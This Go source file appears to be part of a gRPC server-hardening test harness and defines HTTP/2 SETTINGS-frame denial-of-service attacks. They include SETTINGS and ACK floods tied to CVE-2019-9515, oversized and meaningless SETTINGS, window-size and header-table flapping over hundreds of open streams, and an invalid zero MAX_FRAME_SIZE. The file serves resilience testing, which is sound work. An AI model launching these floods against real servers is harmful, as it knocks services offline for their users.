// SPDX-License-Identifier: Apache-2.0

package kinds

import (
	"google.golang.org/grpc/attack/internal/attacker"
	"google.golang.org/grpc/attack/internal/orders"
	"google.golang.org/grpc/attack/internal/wire"
)

// settingsKinds are attacks on a server with SETTINGS frames (RFC 9113, 6.5).
var settingsKinds = []Kind{
	{
		Name: "server/settings/flood-unread", Short: true,
		About:  "empty SETTINGS whose acknowledgements nobody reads (CVE-2019-9515)",
		Attack: flood(4, false, frame(wire.Settings, 0, 0, nil)),
	},
	{
		Name:   "server/settings/flood",
		About:  "empty SETTINGS, acknowledgements are read (CVE-2019-9515)",
		Attack: flood(4, true, frame(wire.Settings, 0, 0, nil)),
	},
	{
		Name:   "server/settings/huge",
		About:  "SETTINGS of 2,730 entries each",
		Attack: flood(4, true, frame(wire.Settings, 0, 0, manySettings(wire.MaxHeaderListSize))),
	},
	{
		Name:   "server/settings/unknown",
		About:  "SETTINGS of 2,730 entries that mean nothing (RFC 9113, 6.5.2: ignore)",
		Attack: flood(4, true, frame(wire.Settings, 0, 0, manySettings(0xabcd))),
	},
	{
		Name:   "server/settings/ack-flood",
		About:  "acknowledgements of SETTINGS that were never sent",
		Attack: flood(4, true, frame(wire.Settings, wire.Ack, 0, nil)),
	},
	{
		Name:   "server/settings/window-flap",
		About:  "INITIAL_WINDOW_SIZE between 0 and 2^31-1 while 1,000 streams are open (RFC 9113, 6.9.2)",
		Attack: flap(wire.InitialWindowSize, 0, 1<<31-1),
	},
	{
		Name:   "server/settings/table-flap",
		About:  "HEADER_TABLE_SIZE between 0 and 2^32-1 while 1,000 streams are open (RFC 7541, 4.2)",
		Attack: flap(wire.HeaderTableSize, 0, 1<<32-1),
	},
	{
		Name:   "server/settings/frame-size-0",
		About:  "MAX_FRAME_SIZE of 0, which is an error (CVE-2026-33814)",
		Attack: flood(4, true, invalidSetting),
	},
}

func manySettings(id uint16) []byte {
	var b []byte
	for i := range uint32(2730) {
		b = wire.AppendSettings(b, wire.Setting{ID: id, Value: 1<<20 + i})
	}
	return b
}

// flap changes a setting to and fro on connections that have streams open.
func flap(id uint16, low, high uint32) attack {
	return func(a *attacker.Attacker) error {
		return a.Conns(2, func(c *attacker.Conn) error {
			c.Drain(nil)
			if _, err := open(c, 500, orders.Deaf); err != nil {
				return err
			}
			return repeat(c, func(c *attacker.Conn) error {
				if err := c.Settings(wire.Setting{ID: id, Value: low}); err != nil {
					return err
				}
				return c.Settings(wire.Setting{ID: id, Value: high})
			})
		})
	}
}

func invalidSetting(c *attacker.Conn) error {
	if err := c.Settings(wire.Setting{ID: wire.MaxFrameSize, Value: 0}); err != nil {
		return err
	}
	if _, err := c.Call(orders.Echo); err != nil {
		return err
	}
	return c.Flush()
}
